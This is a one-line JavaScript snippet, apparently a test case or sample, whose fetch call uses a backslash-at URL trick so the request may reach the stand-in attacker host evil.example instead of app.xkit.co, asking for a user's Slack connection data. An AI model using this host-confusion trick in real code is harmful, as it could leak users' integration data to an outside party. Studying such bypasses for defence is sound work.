export const read = (id) => fetch(`https://evil.example\\@app.xkit.co/api/platform/users/${id}/connections/slack`);
